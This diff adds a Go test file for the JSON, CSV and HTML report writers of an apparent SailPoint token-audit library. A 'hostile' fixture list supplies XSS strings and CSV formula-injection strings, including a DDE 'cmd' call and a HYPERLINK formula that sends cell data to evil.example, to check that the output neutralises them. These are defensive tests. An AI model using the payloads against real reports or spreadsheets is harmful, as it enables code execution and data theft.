@@ -1,0 +1,242 @@
+package report_test
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/csv"
+	"errors"
+	"html"
+	"io"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"go.uber.org/goleak"
+
+	"github.com/sailpoint-go/sailpoint"
+	"github.com/sailpoint-go/sailpoint/lifecycle"
+	"github.com/sailpoint-go/sailpoint/lifecycle/report"
+	"github.com/sailpoint-go/sailpoint/sailpointtest"
+)
+
+func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }
+
+func ptr[T any](v T) *T { return &v }
+
+var at = time.Date(2026, 3, 1, 12, 30, 0, 0, time.FixedZone("", 3600))
+
+// small has one finding of each shape: of a token that tells everything, of one that tells little, of an owner.
+func small() *lifecycle.Report {
+	owner := sailpoint.PersonalAccessTokenOwner{Type: "IDENTITY", ID: "o1", Name: "Ana"}
+	full := sailpoint.PersonalAccessToken{
+		ID: "t1", Name: "nightly", Scope: []string{"a", "b"}, Owner: owner, Created: at.AddDate(0, -8, 0), LastUsed: ptr(at.AddDate(0, -5, 0)),
+		ExpirationDate: ptr(at.AddDate(0, -2, 0)), AccessTokenValiditySeconds: 900,
+	}
+	return &lifecycle.Report{
+		At: at, Tokens: 12, Counts: map[lifecycle.Kind]int{lifecycle.Stale: 1, lifecycle.Expired: 1, lifecycle.NoExpiry: 1, lifecycle.NearLimit: 1},
+		Policy: lifecycle.Policy{NeverUsedAfter: time.Hour, StaleAfter: 2 * time.Hour, ExpiringWithin: 3 * time.Hour, MaxBearer: 4 * time.Hour, NearLimit: 8},
+		Owners: []lifecycle.OwnerTotal{{Owner: owner, Tokens: 9, Managed: 1, Findings: 3}, {Owner: sailpoint.PersonalAccessTokenOwner{Type: "IDENTITY", ID: "o2"}, Tokens: 2, Findings: 1}},
+		Findings: []lifecycle.Finding{
+			{Kind: lifecycle.Stale, Token: full, Text: "Stale."},
+			{Kind: lifecycle.Expired, Token: full, Text: "Expired."},
+			{Kind: lifecycle.NoExpiry, Token: sailpoint.PersonalAccessToken{ID: "t2", Owner: sailpoint.PersonalAccessTokenOwner{Type: "IDENTITY", ID: "o2"}}, Text: "None told."},
+			{Kind: lifecycle.NearLimit, Token: sailpoint.PersonalAccessToken{Owner: owner}, Text: "Near."},
+		},
+	}
+}
+
+// write returns what a writer writes.
+func write(t *testing.T, to func(io.Writer, *lifecycle.Report) error, r *lifecycle.Report) string {
+	t.Helper()
+	var out bytes.Buffer
+	require.NoError(t, to(&out, r))
+	return out.String()
+}
+
+func TestJSON(t *testing.T) {
+	const ana = `"owner":{"type":"IDENTITY","id":"o1","name":"Ana"}`
+	const nobody = `"owner":{"type":"IDENTITY","id":"o2","name":""}`
+	const full = `"token":{"id":"t1","name":"nightly","scope":["a","b"],` + ana + `,"created":"2025-07-01T12:30:00+01:00",` +
+		`"lastUsed":"2025-10-01T12:30:00+01:00","expirationDate":"2026-01-01T12:30:00+01:00","accessTokenValiditySeconds":900}`
+	want := `{"at":"2026-03-01T11:30:00Z",` +
+		`"policy":{"neverUsedAfterSeconds":3600,"staleAfterSeconds":7200,"expiringWithinSeconds":10800,"maxBearerSeconds":14400,"nearLimit":8},` +
+		`"tokens":12,"counts":{"expired":1,"near-limit":1,"no-expiry":1,"stale":1},` +
+		`"owners":[{` + ana + `,"tokens":9,"managed":1,"findings":3},{` + nobody + `,"tokens":2,"managed":0,"findings":1}],` +
+		`"findings":[{"kind":"stale","text":"Stale.",` + ana + `,` + full + `},{"kind":"expired","text":"Expired.",` + ana + `,` + full + `},` +
+		`{"kind":"no-expiry","text":"None told.",` + nobody + `,"token":{"id":"t2","name":"","scope":[],` + nobody + `,"created":"0001-01-01T00:00:00Z"}},` +
+		`{"kind":"near-limit","text":"Near.",` + ana + `}]}`
+	assert.Equal(t, want, regexp.MustCompile(`\n\t*|(": )`).ReplaceAllStringFunc(write(t, report.WriteJSON, small()), strings.TrimSpace))
+	assert.Contains(t, write(t, report.WriteJSON, &lifecycle.Report{}), `"findings": []`, "of an empty report")
+}
+
+func TestCSV(t *testing.T) {
+	assert.Equal(t, `kind,finding,token_id,token_name,owner_id,owner_name,created,last_used,expires,scope,bearer_seconds
+stale,Stale.,t1,nightly,o1,Ana,2025-07-01T11:30:00Z,2025-10-01T11:30:00Z,2026-01-01T11:30:00Z,a b,900
+expired,Expired.,t1,nightly,o1,Ana,2025-07-01T11:30:00Z,2025-10-01T11:30:00Z,2026-01-01T11:30:00Z,a b,900
+no-expiry,None told.,t2,,o2,,,,,,
+near-limit,Near.,,,o1,Ana,,,,,
+`, write(t, report.WriteCSV, small()))
+}
+
+// hostile is what a token's or an owner's name may be, in the hope that somebody opens a report of it.
+var hostile = []string{
+	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `</title></style></script><script>alert(1)</script>`,
+	`</td></tr></table><h1>x`, `{{.Token}}`, `javascript:alert(1)`, `<!--`, `]]>`, "a\x00b", "a\u202eexe.txt", "a\xff", "<svg/onload=alert(1)>",
+	`=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `x;=1+1`, `x,=1+1`, "x\t=1+1", `x";=1+1;"`, `"=1+1`, `'=1+1`, `＝1+1`, `x|@SUM(1)`,
+	"x\u2028=1+1", `=HYPERLINK("https://evil.example/?"&A1)`, strings.Repeat("long ", 1000), "",
+}
+
+// hostileReport has each hostile text in every place that an owner can write to.
+func hostileReport() *lifecycle.Report {
+	r := &lifecycle.Report{At: at, Tokens: len(hostile), Counts: map[lifecycle.Kind]int{lifecycle.NoExpiry: len(hostile)}}
+	for _, text := range hostile {
+		owner := sailpoint.PersonalAccessTokenOwner{Type: text, ID: text, Name: text}
+		r.Owners = append(r.Owners, lifecycle.OwnerTotal{Owner: owner, Tokens: 9})
+		r.Findings = append(r.Findings,
+			lifecycle.Finding{Kind: lifecycle.NoExpiry, Text: text, Token: sailpoint.PersonalAccessToken{ID: "id" + text, Name: text, Owner: owner, Scope: []string{text}}},
+			lifecycle.Finding{Kind: lifecycle.Kind(text), Text: text, Token: sailpoint.PersonalAccessToken{Owner: owner}})
+	}
+	return r
+}
+
+// TestHostileNamesInCSV: no cell is a formula, for a program that splits lines at commas, semicolons or tabs, and
+// whether it minds quotes or not.
+func TestHostileNamesInCSV(t *testing.T) {
+	out := write(t, report.WriteCSV, hostileReport())
+	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, records, 1+2*len(hostile))
+	require.Equal(t, 1+2*len(hostile), strings.Count(out, "\n"), "a line for each finding")
+	formula := regexp.MustCompile(`^[\s"]*[=+\-@＝＋－＠]`)
+	for _, record := range records {
+		for _, cell := range record {
+			assert.NotRegexp(t, formula, cell)
+		}
+	}
+	for _, separator := range []string{",", ";", "\t", "|", "\n"} {
+		for cell := range strings.SplitSeq(out, separator) {
+			assert.NotRegexp(t, formula, cell)
+		}
+	}
+	assert.Contains(t, out, `'=cmd|' /C calc'!A0`)
+	assert.NotRegexp(t, `[\x00-\x09\x0b-\x1f]`, out)
+}
+
+func TestHostileNamesInJSON(t *testing.T) {
+	out := write(t, report.WriteJSON, hostileReport())
+	assert.NotContains(t, out, "<")
+	assert.NotContains(t, out, ">")
+	assert.Contains(t, out, `"name": "\u003cscript\u003ealert(1)\u003c/script\u003e"`)
+}
+
+// TestHostileNamesInHTML: they are text, and nothing else is in the page than what is there without them.
+func TestHostileNamesInHTML(t *testing.T) {
+	out := write(t, report.WriteHTML, hostileReport())
+	content := withoutAssets(t, out)
+	tags := regexp.MustCompile(`<(/?[a-zA-Z!][a-zA-Z0-9]*)`).FindAllStringSubmatch(content, -1)
+	for _, tag := range tags {
+		assert.Regexp(t, `^/?(!DOCTYPE|html|head|meta|link|title|style|body|header|main|section|h1|h2|p|strong|div|svg|line|text|rect|circle|i|b|button|span|ol|ul|li|bdi|em|label|input|select|option|output|table|thead|tbody|tr|th|td|code|script)$`, tag[1])
+	}
+	assert.Equal(t, 1, strings.Count(strings.ToLower(content), "<script"))
+	assert.Equal(t, 1, strings.Count(strings.ToLower(content), "</script"))
+	unquoted := regexp.MustCompile(`"[^"]*"`).ReplaceAllString(content, `""`)
+	assert.Empty(t, regexp.MustCompile(`(?i)<[^>]*\son[a-z]+\s*=`).FindString(unquoted), "no handler in a tag")
+	shown := html.UnescapeString(content)
+	for _, text := range hostile {
+		if text == "" || strings.ContainsRune(text, 0) || !utf8.ValidString(text) {
+			continue
+		}
+		assert.True(t, strings.Contains(shown, "<bdi>"+text+"</bdi>"), "%.40q is shown as it is, cut off from the direction of the text around", text) //nolint:testifylint // Contains would print the page
+	}
+}
+
+// withoutAssets returns the page without its style and script, after checking that the browser is told to take these
+// and no others.
+func withoutAssets(t *testing.T, page string) string {
+	t.Helper()
+	found := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]*)">`).FindStringSubmatch(page)
+	require.NotNil(t, found)
+	policy := html.UnescapeString(found[1])
+	assert.True(t, strings.HasPrefix(policy, "default-src 'none'; "), policy)
+	assert.NotContains(t, policy, "unsafe")
+	for _, name := range []string{"style", "script"} {
+		asset := regexp.MustCompile(`(?s)<` + name + `>(.*?)</` + name + `>`).FindStringSubmatch(page)
+		require.NotNil(t, asset, name)
+		sum := sha256.Sum256([]byte(asset[1]))
+		assert.Contains(t, policy, name+"-src 'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'", "the hash of what is there")
+		page = strings.Replace(page, asset[1], "", 1)
+		assert.NotRegexp(t, `(?i)url\(|@import|https?:|fetch|import\(|innerHTML|eval`, asset[1])
+	}
+	return page
+}
+
+func TestHTMLLoadsNothing(t *testing.T) {
+	content := withoutAssets(t, write(t, report.WriteHTML, small()))
+	assert.Equal(t, []string{`href="data:,"`}, regexp.MustCompile(`(?i)\b(?:src|href|srcset|action|data|poster|xlink:href)="[^"]*"`).FindAllString(content, -1))
+	assert.NotRegexp(t, `(?i)https?:|<iframe|<object|<embed|<base`, content)
+}
+
+func TestHTMLShowsTheReport(t *testing.T) {
+	content := withoutAssets(t, write(t, report.WriteHTML, small()))
+	for _, want := range []string{
+		"As of 2026-03-01 11:30 UTC. 12 tokens of 2 owners were looked at; something was found of <strong>2</strong> of them.",
+		`data-kind="expired" aria-pressed="false" class="warn"><span>Expired</span>`,
+		`<bdi>Ana</bdi> <em class="chip warn">near the limit</em>`,
+		`<b>9</b> tokens, 1 managed, 3 findings`,
+		`<bdi>o2</bdi></span>`, // an owner without a name
+		`<tr data-kinds="stale expired">`,
+		`<em class="chip idle">Not used for long</em> Stale.`,
+		`<td data-label="Last used" data-sort="0" data-number>never</td>`,
+		`data-number>not told</td>`,
+		`<title>July 2025: 1 created</title>`,
+		`<title>January 2026: 1 expired</title>`,
+		`1 expired, <i class="ends"></i>0 to expire; 1 tell no expiry`,
+		`<tr data-kinds="near-limit" data-owner>`,
+	} {
+		assert.Contains(t, content, want)
+	}
+	assert.Contains(t, write(t, report.WriteHTML, &lifecycle.Report{At: at}), "Nothing was found.")
+}
+
+// TestTimeLineStaysOnThePage, whatever a token's dates are.
+func TestTimeLineStaysOnThePage(t *testing.T) {
+	r := &lifecycle.Report{At: at}
+	for i, year := range []int{-1, 1, 1970, 2024, 2026, 2027, 2100, 9999} {
+		when := time.Date(year, 2, 3, 4, 5, 6, 7, time.UTC)
+		r.Findings = append(r.Findings, lifecycle.Finding{Kind: lifecycle.Stale, Token: sailpoint.PersonalAccessToken{
+			ID: string(rune('a' + i)), Created: when, LastUsed: &when, ExpirationDate: &when,
+		}})
+	}
+	content := withoutAssets(t, write(t, report.WriteHTML, r))
+	for _, number := range regexp.MustCompile(`\b(?:x|x1|cx)="([^"]*)"`).FindAllStringSubmatch(content, -1) {
+		assert.Regexp(t, `^(\d|[1-9]\d|[1-6]\d\d|7[01]\d|720)$`, number[1])
+	}
+	assert.NotRegexp(t, `(width|height)="-`, content)
+	assert.Equal(t, 8, strings.Count(content, "<circle"))
+	assert.Less(t, len(content), 50_000, "months between are not drawn by the thousand")
+}
+
+// TestReportOfATenant writes what an audit found, without anything secret.
+func TestReportOfATenant(t *testing.T) {
+	tenant := sailpointtest.NewTenant()
+	client, err := sailpoint.NewClient(tenant.Config())
+	require.NoError(t, err)
+	r, err := lifecycle.Audit(t.Context(), client, lifecycle.Policy{})
+	require.NoError(t, err)
+	for name, to := range map[string]func(io.Writer, *lifecycle.Report) error{"JSON": report.WriteJSON, "CSV": report.WriteCSV, "HTML": report.WriteHTML} {
+		out := write(t, to, r)
+		assert.Contains(t, out, tenant.Config().ClientID, name)
+		assert.NotContains(t, out, tenant.Config().ClientSecret.Reveal(), name)
+		broken := errors.New("disk full")
+		assert.ErrorIs(t, to(failingWriter{broken}, r), broken, name)
+	}
+}
+
+type failingWriter struct{ err error }
+
+func (f failingWriter) Write([]byte) (int, error) { return 0, f.err }
